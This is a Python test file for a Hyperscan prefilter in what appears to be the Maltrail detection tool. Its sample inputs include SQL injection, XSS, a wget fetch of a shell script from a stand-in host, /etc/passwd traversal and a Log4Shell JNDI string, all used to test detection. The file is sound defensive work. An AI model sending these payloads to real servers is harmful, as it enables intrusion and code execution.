"""The Hyperscan prefilter (`workers.heuristics.prefilter`): it may report a pattern that does not
match, never miss one that does (Python's `re` stays the judge), and its compiled database is
cached on disk by content."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.resources import data_file
from workers.heuristics import http_rules, prefilter
from workers.heuristics.prefilter import LazyPattern, PatternSet

CATEGORY_PATTERNS = [rx for _, rx in http_rules.SUSPICIOUS_CATEGORIES]
UA_SOURCES = http_rules._ua_patterns(data_file("ua.txt").read_text(encoding="utf-8"))
# Characters the attack patterns and User-Agents are made of, plus those where Python and
# Hyperscan could disagree: letters `re` folds onto ASCII, 0x1C-0x1F (blanks to `re`), non-ASCII
# letters and digits (`\w`, `\d`, `\b`), a lone surrogate.
ALPHABET = ("abcdefghijklmnopqrstuvwxyz SELECTUNIONFROMWHERE0123456789 +=&?/.'\"<>()*;-_@:$|{}[]\\#%\n\t"
            "\u0130\u0131\u017f\u212a\x1c\x1f\xa0\u00e9\u0663\u4e2d")
SAMPLES = ["/?id=1 union select 1,2", "/?q=1+UNION+ALL+SELECT+NULL--", "/x?a=<script>alert(1)</script>",
           "/cgi-bin/;wget http://x/y.sh", "/../../../etc/passwd", "/?x=${jndi:ldap://h/a}",
           "/?id=1 or 1=1", "/index.php?page=php://filter/resource=x", "/a?x=1\x1cunion\x1cselect\x1c1",
           "/?q=\u017felect * from users where id=1", "/?u=a@b.cc&v=c@d.ee&w=e@f.gg&z=g@h.ii",
           "/?mac=00:11:22:33:44:55", "/.htaccess", "/?imei=123456789012345"]


@pytest.fixture(autouse=True)
def _private_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MALTRAIL_CACHE_DIR", str(tmp_path / "cache"))


def _searched(patterns: list[re.Pattern[str]] | list[LazyPattern], text: str) -> list[int]:
    return [i for i, rx in enumerate(patterns) if rx.search(text)]


@pytest.fixture(scope="module")
def categories() -> PatternSet:
    return PatternSet("test-categories", [rx.pattern for rx in CATEGORY_PATTERNS], re.I | re.S)


@pytest.fixture(scope="module")
def user_agents() -> tuple[PatternSet, list[re.Pattern[str]]]:
    return PatternSet("test-user-agents", UA_SOURCES, re.I), [re.compile(f"(?:{p})", re.I) for p in UA_SOURCES]


def test_attack_samples_are_candidates_of_the_categories_they_match(categories: PatternSet) -> None:
    for text in SAMPLES:
        matched = _searched(CATEGORY_PATTERNS, text)
        assert matched, text
        assert set(matched) <= set(categories.candidates(text)), text


def test_a_plain_request_has_no_candidate(categories: PatternSet) -> None:
    assert categories.candidates("/news/shop/a1b2c3.html?id=k2x9&ref=3f2a91&utm_source=mail") == []


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=ALPHABET, max_size=80) | st.sampled_from(SAMPLES).map(lambda s: s.upper()))
def test_never_misses_an_attack_category(categories: PatternSet, text: str) -> None:
    assert set(_searched(CATEGORY_PATTERNS, text)) <= set(categories.candidates(text))


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(UA_SOURCES), st.text(alphabet=ALPHABET, max_size=12), st.text(alphabet=ALPHABET, max_size=12))
def test_never_misses_a_user_agent(user_agents: tuple[PatternSet, list[re.Pattern[str]]], source: str, before: str,
                                   after: str) -> None:
    pset, compiled = user_agents
    core = re.sub(r"\\[AZb]", "", source).replace("\\", "")
    for text in (f"{before}{core}{after}", core.upper(), core.swapcase()):
        assert set(_searched(compiled, text)) <= set(pset.candidates(text)), text


def test_lone_surrogate_makes_everything_a_candidate(categories: PatternSet) -> None:
    assert categories.candidates("/a\udcff") == list(range(len(CATEGORY_PATTERNS)))


def test_patterns_pcre_would_read_otherwise_are_always_candidates() -> None:
    """A POSIX class name is a class to PCRE and a set of letters to Python; `\\u00e9` and `\\N{..}`
    are Python escapes only; a non-ASCII letter may fold differently."""
    sources = ["[[:digit:]]x", r"caf\u00e9", r"\N{DIGIT ONE}", "stra\u00dfe", "plain"]
    pset = PatternSet("test-odd", sources, re.I)
    assert pset.candidates("nothing here") == [0, 1, 2, 3]
    assert pset.candidates("a PLAIN text") == [0, 1, 2, 3, 4]


def test_alternatives_split_at_top_level_only() -> None:
    assert prefilter._alternatives(r"a|[|]|\|b|(c|d)") == ["a", "[|]", r"\|b", "(c|d)"]
    assert prefilter._alternatives("(?s)a.b|c") == ["(?s)a.b|c"]  # inline flags cover every alternative
    assert prefilter._widened(r"a{,5}b{2,3}+c{4}\{1,2\}") == r"a{0,}b{2,}c{4}\{1,2\}"


def test_database_is_cached_and_reloaded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = PatternSet("test-cache", ["evil", "b(a|o)d"], re.I)
    assert first.candidates("a BAD day") == [1]
    files = list((tmp_path / "cache").glob("hs-test-cache-*.db"))
    assert len(files) == 1

    def no_compile(self: PatternSet) -> None:
        raise AssertionError("compiled although the cache holds the database")

    monkeypatch.setattr(PatternSet, "_build", no_compile)
    again = PatternSet("test-cache", ["evil", "b(a|o)d"], re.I)
    assert again.candidates("so EVIL") == [0]
    assert list((tmp_path / "cache").glob("hs-test-cache-*.db")) == files  # same content, same file


def test_other_patterns_get_another_cache_file(tmp_path: Path) -> None:
    PatternSet("test-key", ["one"], re.I).prepare()
    PatternSet("test-key", ["two"], re.I).prepare()
    PatternSet("test-key", ["one"], 0).prepare()
    assert len(list((tmp_path / "cache").glob("hs-test-key-*.db"))) == 3


def test_damaged_cache_is_rebuilt(tmp_path: Path) -> None:
    PatternSet("test-damaged", ["evil"], re.I).prepare()
    (cached,) = (tmp_path / "cache").glob("hs-test-damaged-*.db")
    cached.write_bytes(b"\n" + b"\0" * 64)
    assert PatternSet("test-damaged", ["evil"], re.I).candidates("EVIL") == [0]
    assert PatternSet("test-damaged", ["evil"], re.I).candidates("EVIL") == [0]  # the rewritten cache loads


def test_unwritable_cache_still_works(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a directory")
    monkeypatch.setenv("MALTRAIL_CACHE_DIR", str(blocker / "cache"))
    assert PatternSet("test-ro", ["evil"], re.I).candidates("evil") == [0]
    assert not list(tmp_path.glob(".hs-*"))


LINE_PATTERNS = [r"^[a-z]{2}-[a-z]{2,3}\.(top|club)$", r"byethost[0-9]+\.com", r"\Aanchored", r"x[^.]*y", r"end\Z",
                 r"(?<![a-z])ab\b"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet="abxy-.0123456789topclubyethostcomanchoredn\u017f\u00e9\x1c", max_size=20),
                max_size=15))
def test_many_lines_in_one_scan_never_miss(texts: list[str]) -> None:
    pset = PatternSet("test-lines", LINE_PATTERNS, 0, lines=True)
    compiled = [re.compile(p) for p in LINE_PATTERNS]
    for text, found in zip(texts, pset.candidates_many(texts), strict=True):
        assert set(_searched(compiled, text)) <= set(found), text


def test_many_lines_with_text_anchors_and_newlines() -> None:
    pset = PatternSet("test-lines", LINE_PATTERNS, 0, lines=True)
    assert pset.candidates_many(["ab-cd.top", "www.byethost7.com", "plain"]) == [[0, 5], [1], []]
    # `\A` and `\Z` hold at each text's ends, and only there
    assert pset.candidates_many(["anchored end", "not anchored", "end not", "anchored"]) == [[2, 4], [], [], [2]]
    assert pset.candidates_many(["two\nlines ab", "ab"]) == [[5], [5]]  # falls back to one scan each
    assert pset.candidates_many([]) == []


def test_a_flood_of_reports_falls_back_to_one_scan_per_text() -> None:
    pset = PatternSet("test-flood", ["a"], 0, lines=True)
    texts = ["a" * 50] * 10 + ["b"]
    assert pset.candidates_many(texts) == [[0]] * 10 + [[]]


def _categorise_reference(text: str, skip_leakage: bool) -> str | None:
    """Spec 3 without a prefilter: whitelisted parts and preconditions, then every category in order."""
    low = text.lower()
    if any(part in low for part in http_rules._WHITELISTED_PARTS) or not any(c in text for c in
                                                                            http_rules._PRECONDITION):
        return None
    for name, rx in http_rules.SUSPICIOUS_CATEGORIES:
        if not (skip_leakage and name == http_rules._DATA_LEAKAGE) and rx.search(text):
            return name
    return None


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=ALPHABET + "ADS/images", max_size=80) | st.sampled_from(SAMPLES).map(lambda s: s + "&ads=1"),
       st.booleans())
def test_categorise_answers_as_the_plain_battery(text: str, skip_leakage: bool) -> None:
    http_rules._categorise.cache_clear()
    assert http_rules._categorise(text, skip_leakage) == _categorise_reference(text, skip_leakage)


def test_categorise_samples() -> None:
    for text in SAMPLES + [s.replace("?", "/../images/?") for s in SAMPLES] + [s.upper() for s in SAMPLES]:
        for skip in (False, True):
            assert http_rules._categorise(text, skip) == _categorise_reference(text, skip), text


def test_cache_directory_choice(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("MALTRAIL_CACHE_DIR")
    monkeypatch.setenv("CACHE_DIRECTORY", f"{tmp_path}/systemd:{tmp_path}/other")
    assert prefilter.cache_dir() == tmp_path / "systemd"
    monkeypatch.delenv("CACHE_DIRECTORY")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    assert prefilter.cache_dir() == tmp_path / "xdg" / "maltrail"


def test_flags_hyperscan_cannot_follow_are_refused() -> None:
    with pytest.raises(ValueError, match="unsupported re flags"):
        PatternSet("test-verbose", ["a b"], re.VERBOSE)


def test_cached_lines_are_computed_once_per_source(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MALTRAIL_CACHE_DIR", str(tmp_path / "cache"))
    calls: list[str] = []

    def compute(source: str) -> list[str]:
        calls.append(source)
        return [line.upper() for line in source.split()]

    assert prefilter.cached_lines("t", "a b", compute) == ["A", "B"]
    assert prefilter.cached_lines("t", "a b", compute) == ["A", "B"]  # read back
    assert calls == ["a b"]
    assert prefilter.cached_lines("t", "a c", compute) == ["A", "C"]  # another source: computed
    for cached in (tmp_path / "cache").glob("lines-t-*.json"):
        cached.write_text("{not json")
    assert prefilter.cached_lines("t", "a b", compute) == ["A", "B"]  # a damaged cache is made again
    assert calls == ["a b", "a c", "a b"]


def test_user_agent_list_from_the_cache_equals_the_list_made_afresh() -> None:
    text = data_file("ua.txt").read_text(encoding="utf-8")
    assert http_rules._UA._sources == http_rules._ua_patterns(text)
